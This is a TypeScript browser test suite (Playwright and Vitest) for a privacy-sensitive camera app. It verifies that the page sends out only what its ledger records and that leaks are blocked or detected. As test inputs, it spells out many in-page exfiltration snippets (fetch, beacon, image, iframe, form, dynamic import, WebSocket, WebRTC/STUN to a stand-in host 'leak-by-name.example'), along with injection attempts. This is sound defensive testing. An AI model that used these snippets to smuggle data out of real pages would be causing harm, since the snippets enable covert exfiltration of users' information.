import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resolvedNames, udpDestinations } from '../support/net-log';
import { Product } from '../support/product';
import type { RecordingProxy } from '../support/recording-proxy';
import { accountFor, type Account } from './account-for';
import { Capture, readLedger } from './capture';
import { type LabServer, startLab } from './lab';

/** What leaves the page: everything goes through a recording proxy, and is compared with the ledger. */

const SCREENS = ['/wall', '/zones', '/insights', '/cameras', '/privacy', '/settings', '/live'];

let product: Product;
let capture: Capture;
let proxy: RecordingProxy;
let lab: LabServer;
let browser: Browser;
let page: Page;
/** Without walls. */
let labPage: Page;
let serial = 0;

beforeAll(async () => {
  [product, capture, lab] = await Promise.all([Product.start(), Capture.start(), startLab()]);
  proxy = capture.proxy;
  browser = await capture.launch('clean');
  [page, labPage] = [await browser.newPage(), await browser.newPage()];
  await labPage.goto(lab.url);
  await page.goto(product.url);
  await page.locator('[data-testid="session-phase"][data-phase="running"]').waitFor({ timeout: 60_000 });
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await Promise.all([capture?.close(), lab?.close(), product?.stop()]);
});

/** Of everything that has left until now. */
async function account(): Promise<Account> {
  // What leaves while the ledger is read may not stand in it yet.
  const sent = proxy.requests.length;
  return capture.account([product.url], await readLedger(page), sent);
}

describe('what a user does', () => {
  it('stands in the ledger to the byte, and carries nothing but numbers', async () => {
    for (const screen of SCREENS) {
      await page.evaluate(
        (path) =>
          document.querySelector<HTMLAnchorElement>(`a[href="${path}"], a[href^="${path}/"]`)?.click(),
        screen,
      );
      await page.waitForTimeout(1_000);
    }
    // A minute of counting ends with its upload.
    await expect
      .poll(
        () =>
          proxy.requests.some(({ method, url }) => method === 'POST' && url.endsWith('/api/v1/aggregates')),
        {
          timeout: 120_000,
        },
      )
      .toBe(true);
    const { unaccounted, suspicious, matched } = await account();
    expect(unaccounted).toEqual([]);
    expect(suspicious).toEqual([]);
    expect(matched).toBeGreaterThan(20);
  });

  it('asks no other server', () => {
    expect([...capture.askedOrigins].filter((origin) => origin !== lab.url)).toEqual([product.url]);
  });
});

describe('planted in the page', () => {
  /** Runs code in a page; whether it throws does not matter. Returns its marker. */
  async function plant(code: string, where: Page, to: string): Promise<string> {
    serial += 1;
    const marker = `leak${serial}n${Date.now()}`;
    const tried = where.evaluate(
      `(async (to, marker) => { ${code} })(${JSON.stringify(to)}, ${JSON.stringify(marker)})`,
    );
    await Promise.race([tried.catch(() => null), where.waitForTimeout(3_000)]);
    await where.waitForTimeout(500);
    return marker;
  }

  it.each([
    ['fetch', "await fetch(to + '/?' + marker, { mode: 'no-cors' })"],
    ['XMLHttpRequest', "const x = new XMLHttpRequest(); x.open('POST', to); x.send(marker);"],
    ['WebSocket', "new WebSocket(to.replace('http', 'ws') + '/?' + marker)"],
    ['beacon', 'navigator.sendBeacon(to, marker)'],
    ['image', "new Image().src = to + '/?' + marker"],
    [
      'script',
      "document.head.append(Object.assign(document.createElement('script'), { src: to + '/?' + marker }))",
    ],
    [
      'frame',
      "document.body.append(Object.assign(document.createElement('iframe'), { src: to + '/?' + marker }))",
    ],
    [
      'style',
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to + '/?' + marker }))",
    ],
    [
      'prefetch',
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to + '/?' + marker }))",
    ],
    [
      'form',
      "document.body.append(Object.assign(document.createElement('iframe'), { name: 'leak' })); const f = Object.assign(document.createElement('form'), { action: to + '/?' + marker, method: 'post', target: 'leak' }); document.body.append(f); f.submit();",
    ],
    ['import', "await import(to + '/?' + marker)"],
  ])('%s to another server is blocked', async (_name, code) => {
    expect(proxy.has(await plant(code, labPage, lab.url)), 'the leak works').toBe(true);
    expect(proxy.has(await plant(code, page, lab.url)), 'it gets out').toBe(false);
  });

  it.each([
    [
      'an image upload',
      "const c = new OffscreenCanvas(64, 64); c.getContext('2d').fillRect(0, 0, 9, 9); const b = new Uint8Array(await (await c.convertToBlob()).arrayBuffer()); await fetch(to + '/api/v1/aggregates?' + marker, { method: 'POST', headers: { 'content-type': 'application/json' }, body: b })",
    ],
    ['a beacon', "navigator.sendBeacon(to + '/api/v1/health?' + marker, 'x')"],
    [
      'XMLHttpRequest',
      "const x = new XMLHttpRequest(); x.open('POST', to + '/api/v1/health?' + marker); x.send('x');",
    ],
    ['an address with a query', "await fetch(to + '/demo/demo.mp4?' + marker)"],
    ['an image address', "new Image().src = to + '/icons/icon.svg?' + marker"],
    [
      'a preload with a query',
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: to + '/kiosk-watchdog.js?' + marker }))",
    ],
    ['a WebSocket', "new WebSocket(to.replace('http', 'ws') + '/api/v1/health?' + marker)"],
  ])('%s to our own server is missing among what the app sent', async (name, code) => {
    const marker = await plant(code, page, product.url);
    const { unaccounted } = await account();
    expect(unaccounted.filter((request) => JSON.stringify(request).includes(marker))).not.toEqual([]);
    // The browser tells the page of all but sockets and of `fetch` whose answer nobody reads.
    if (['a WebSocket', 'an image upload', 'an address with a query'].includes(name)) return;
    const unexpected = async (): Promise<string> =>
      JSON.stringify((await readLedger(page)).filter(({ purpose }) => purpose === 'unexpected'));
    await expect.poll(unexpected, { timeout: 20_000 }).toContain(marker);
  });

  it('is said on the Privacy screen, in place of "no picture"', async () => {
    await page.locator('a[href="/privacy"]').first().click();
    const sentence = page.locator('[data-testid="left-today-sentence"][data-clean="false"]');
    await sentence.waitFor({ timeout: 30_000 });
    expect(await sentence.innerText()).not.toContain('no picture, no video');
  });

  it('a descriptor inside an aggregate is seen, and refused by the server', async () => {
    const sent = proxy.requests.find(
      ({ method, url }) => method === 'POST' && url.endsWith('/api/v1/aggregates'),
    );
    const body = JSON.parse(sent?.body ?? '{}') as { buckets: object[] };
    const descriptor = Array.from({ length: 128 }, (_, index) => Math.sin(index));
    const planted = { ...sent, body: JSON.stringify({ buckets: [{ ...body.buckets[0], descriptor }] }) };
    const request = {
      method: 'POST',
      url: `${product.url}/api/v1/aggregates`,
      headers: {},
      body: planted.body,
    };
    expect(accountFor([request], [], () => false).suspicious).toEqual([
      expect.stringContaining('a body of another form'),
      expect.stringContaining('a long list of numbers'),
    ]);
    const headers = { 'content-type': 'application/json' };
    const answer = await fetch(request.url, { method: 'POST', headers, body: planted.body });
    expect(answer.status).toBe(400);
  });
});

describe('text that becomes code or markup', () => {
  it.each([
    ['a worker of another address', "new Worker('/assets/other.js?x')"],
    ['a worker of our own with data', "new Worker('/workers/vision.worker.js?x')"],
    ['markup', "document.body.insertAdjacentHTML('beforeend', '<img>')"],
    ['a script of another address', "document.createElement('script').src = '/kiosk-watchdog.js'"],
    ['a policy of its own', "trustedTypes.createPolicy('own', { createHTML: (text) => text })"],
  ])('%s is refused', async (_name, code) => {
    const refusal = (where: Page): Promise<string> =>
      where.evaluate<string>(
        `(() => { try { ${code}; return 'done'; } catch (error) { return error.name; } })()`,
      );
    expect(await refusal(labPage)).toBe('done');
    expect(await refusal(page)).toBe('TypeError');
  });
});

describe('UDP and names', () => {
  it('nothing goes out while the page counts', async () => {
    await browser.close();
    expect([...(await udpDestinations(capture.netLog('clean')))]).toEqual([]);
    expect(foreign(await resolvedNames(capture.netLog('clean')))).toEqual([]);
  });

  /** Names that are neither this machine nor the browser's maker. */
  const foreign = (names: ReadonlySet<string>): readonly string[] =>
    [...names].filter((name) => !/(^|\.)(localhost|googleapis\.com|google\.com|gstatic\.com)$/.test(name));

  it.each([
    [
      'a data channel',
      "const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x'); a.onicecandidate = (e) => e.candidate && b.addIceCandidate(e.candidate); b.onicecandidate = (e) => e.candidate && a.addIceCandidate(e.candidate); await a.setLocalDescription(); await b.setRemoteDescription(a.localDescription); await b.setLocalDescription(); await a.setRemoteDescription(b.localDescription);",
      'packets',
    ],
    [
      'a STUN server',
      "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:19302' }] }); p.createDataChannel('x'); await p.setLocalDescription();",
      'packets',
    ],
    [
      'the name of a STUN server',
      "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:leak-by-name.example:19302' }] }); p.createDataChannel('x'); await p.setLocalDescription();",
      'name',
    ],
  ])('%s is seen', async (name, code, how) => {
    const log = name.replaceAll(' ', '-');
    browser = await capture.launch(log);
    page = await browser.newPage();
    await page.goto(`${product.url}/privacy`);
    await page.evaluate(`(async () => { ${code} })()`);
    await page.waitForTimeout(3_000);
    await browser.close();
    if (how === 'name')
      expect(foreign(await resolvedNames(capture.netLog(log)))).toContain('leak-by-name.example');
    else expect((await udpDestinations(capture.netLog(log))).size).toBeGreaterThan(0);
  });
});
